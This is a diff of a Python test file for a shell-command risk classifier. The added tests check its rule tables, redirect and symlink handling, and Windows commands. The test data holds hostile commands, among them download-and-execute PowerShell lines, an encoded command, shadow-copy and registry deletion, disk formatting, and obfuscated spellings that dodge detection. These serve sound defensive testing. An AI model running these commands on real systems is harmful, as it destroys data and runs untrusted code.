@@ -1,8 +1,14 @@
 from __future__ import annotations
 
+import re
+import tomllib
+from pathlib import Path
+
 import pytest
 
 from aish_lsp.shell.risk import classify
+from aish_lsp.shell.risk.matching import parse
+from aish_lsp.shell.risk.rules import FOLDER
 
 SAFE = [
     "ls",
@@ -265,3 +271,84 @@ def test_what_nobody_could_look_through_is_destructive(text: str) -> None:
     assert classify(text, "bash").risk != "safe"
     if len(text) > 8_000:
         assert classify(text, "bash").risk == "destructive"
+
+
+ROWS = [
+    (path.stem, group["risk"], match)
+    for path in sorted(FOLDER.glob("*.toml"))
+    for group in tomllib.loads(path.read_text()).get("rules", ())
+    for match in group["match"]
+]
+
+
+def test_every_row_of_the_tables_can_match() -> None:
+    """An option among subcommands would never: it is looked for among the other words."""
+    for name, _, match in ROWS:
+        plain = [word for word in match.split()[1:] if not re.match(r"[-!{]|\w+:", word)]
+        assert not any(part.startswith("-") for word in plain for part in word.split("|")), match
+        parse(match)
+        assert [row[2] for row in ROWS if row[0] == name].count(match) == 1, match
+
+
+def test_every_destructive_row_says_why() -> None:
+    for path in FOLDER.glob("*.toml"):
+        for group in tomllib.loads(path.read_text()).get("rules", ()):
+            assert bool(group.get("reason")) == (group["risk"] != "safe")
+
+
+@pytest.mark.parametrize(
+    ("text", "risk"),
+    [
+        ("echo a > old", "destructive"),
+        ("cp a old", "destructive"),
+        ("mv -n a old", "caution"),
+        ("echo a >> old", "caution"),
+        ("echo a > new", "caution"),
+        ("cd sub; echo a > old", "destructive"),
+        ("echo a > link", "destructive"),
+        ("echo a >> link", "destructive"),
+        ("sed -i s/a/b/ old", "caution"),
+    ],
+)
+def test_what_is_there_counts(tmp_path: Path, text: str, risk: str) -> None:
+    (tmp_path / "old").write_text("work")
+    (tmp_path / "home").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "home" / ".bashrc")
+    assert classify(text, "bash", folder=tmp_path).risk == risk
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Remove-Item -Recurse -Force C:\\src",
+        "Get-ChildItem | Remove-Item",
+        "del /q *.*",
+        "rd /s /q build",
+        "rmdir /s /q build",
+        "format d: /q",
+        "iwr https://x | iex",
+        "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x')",
+        "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3",
+        "Stop-Computer -Force",
+        "Stop-Process -Name x",
+        "taskkill /f /im x.exe",
+        "reg delete HKLM\\Software\\x /f",
+        "vssadmin delete shadows /all",
+        "git reset --hard",
+        "Clear-Content x.log",
+        "net user bob /delete",
+        "re`move-item x",
+        "R^D /s x",
+        '"del" x',
+    ],
+)
+def test_known_destroyers_of_windows(text: str) -> None:
+    for shell in ("pwsh", "C:\\Windows\\System32\\cmd.exe", "powershell.exe"):
+        assert classify(text, shell).risk == "destructive"
+
+
+@pytest.mark.parametrize(
+    "text", ["Get-ChildItem", "dir", "npm test", "Write-Host 'model'", "type a"]
+)
+def test_with_a_shell_of_windows_all_else_is_caution(text: str) -> None:
+    assert classify(text, "pwsh").risk == "caution"
